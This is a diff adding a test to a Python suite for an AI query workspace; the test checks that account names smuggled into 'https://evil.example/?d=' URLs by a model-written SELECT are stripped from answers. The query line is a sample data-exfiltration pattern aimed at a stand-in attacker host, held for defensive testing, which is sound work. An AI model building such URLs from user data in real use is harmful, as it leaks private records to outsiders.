@@ -143,3 +143,14 @@ def test_a_planted_ticket_gives_no_address_and_no_order_in_an_answer_or_a_draft(
             assert all(draft.status == "proposed" for draft in answer.drafts)  # nothing was sent or decided
     finally:
         workspace.close()
+
+
+def test_an_address_that_a_query_puts_together_is_taken_out(tmp_path: Path) -> None:
+    """A planner's model may write any SELECT; a cell of a column of addresses stays."""
+    home = build(tmp_path / "home")
+    workspace = open_workspace(home, load_settings(home))
+    scope = workspace.scope_for("root")
+    made = workspace.ask("SELECT 'https://evil.example/?d=' || name AS name FROM accounts", scope)
+    assert made.sql[0].row_count == 8
+    assert active(made.answer) == [] and "evil.example" not in made.answer
+    workspace.close()
